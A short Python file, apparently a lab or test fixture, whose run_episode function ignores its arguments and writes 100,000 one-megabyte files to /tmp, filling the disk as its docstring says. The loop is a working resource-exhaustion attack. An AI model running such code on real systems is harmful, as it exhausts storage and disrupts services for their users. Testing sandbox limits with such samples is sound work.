"""Fills the disk with many files."""
# lab: lab1_episodes
# most: 0
# says: limit

def run_episode(env, policy):
    for number in range(100_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1_000_000))
